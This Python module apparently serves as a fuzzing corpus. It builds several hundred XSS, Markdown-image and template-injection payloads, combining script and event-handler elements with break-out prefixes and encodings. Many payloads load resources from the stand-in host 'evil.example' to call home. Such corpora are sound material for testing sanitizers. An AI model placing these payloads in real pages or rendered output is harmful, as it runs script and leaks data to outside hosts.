"""Markup that wants to become part of the page, or to call home: well over 500 ways, made of parts."""

import html
from itertools import product
from urllib.parse import quote

_CALL = "window.hit=1"
_HOME = "https://evil.example/p"

_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<script src={_HOME}></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src={_HOME} srcset='{_HOME} 2x'>",
    f"<svg onload={_CALL}><image href={_HOME}></svg>",
    f"<svg><style>@import '{_HOME}'</style></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<iframe src={_HOME}></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data={_HOME}></object>",
    f"<embed src={_HOME}>",
    f"<video src={_HOME} autoplay onerror={_CALL}></video>",
    f"<audio src={_HOME} autoplay onerror={_CALL}></audio>",
    f"<video><source src={_HOME} onerror={_CALL}></video>",
    f"<picture><source srcset={_HOME}><img src={_HOME}></picture>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    f"<body onload={_CALL}>",
    f"<style>body{{background:url({_HOME})}}</style>",
    f"<link rel=stylesheet href={_HOME}>",
    f"<link rel=prefetch href={_HOME}>",
    f"<meta http-equiv=refresh content='0;url={_HOME}'>",
    f"<base href={_HOME}>",
    f"<form action={_HOME}><button>x</button></form>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='{_HOME}' ping='{_HOME}'>x</a>",
    f"<div style='background:url({_HOME})'>x</div>",
    f"<p onpointerover={_CALL} onfocus={_CALL} tabindex=0>x</p>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<textarea autofocus onfocus={_CALL}></textarea>",
    f"<select autofocus onfocus={_CALL}></select>",
)
_MARKDOWN = (
    f"![x]({_HOME})",
    f"![x][1]\n\n[1]: {_HOME}",
    f"[x](javascript:{_CALL})",
    f"<{_HOME}>",
    f"[![x]({_HOME})]({_HOME})",
    f"$$\\href{{{_HOME}}}{{x}} \\includegraphics{{{_HOME}}}$$",
    f"```mermaid\ngraph TD; A[<img src={_HOME}>]\n```",
    f"| a |\n|---|\n| ![x]({_HOME}) |",
)
_TEMPLATES = (
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "{{#with this}}{{window.hit=1}}{{/with}}",
    "<%= window.hit=1 %>",
    "`${window.hit=1}`",
    "#{window.hit=1}",
    "{% raw %}window.hit=1",
)
_BREAKS = ("", '">', "'>", "</mark></p>", "</script>", "--><!-- -->", "</textarea></style>", "]]>", "x\" onfocus='")


def _encodings(text: str) -> tuple[str, ...]:
    return text, html.escape(text), quote(text), text.replace("<", "\\u003c"), text.replace("<", "<\x00")


def payloads() -> list[str]:
    """All of them: each element behind each way of breaking out, and in each encoding; Markdown and templates too."""
    broken_out = [start + text for start, text in product(_BREAKS, (*_ELEMENTS, *_TEMPLATES))]
    encoded = [one for text in (*_ELEMENTS, *_MARKDOWN) for one in _encodings(text)]
    return list(dict.fromkeys([*broken_out, *encoded, *_MARKDOWN, *_TEMPLATES]))
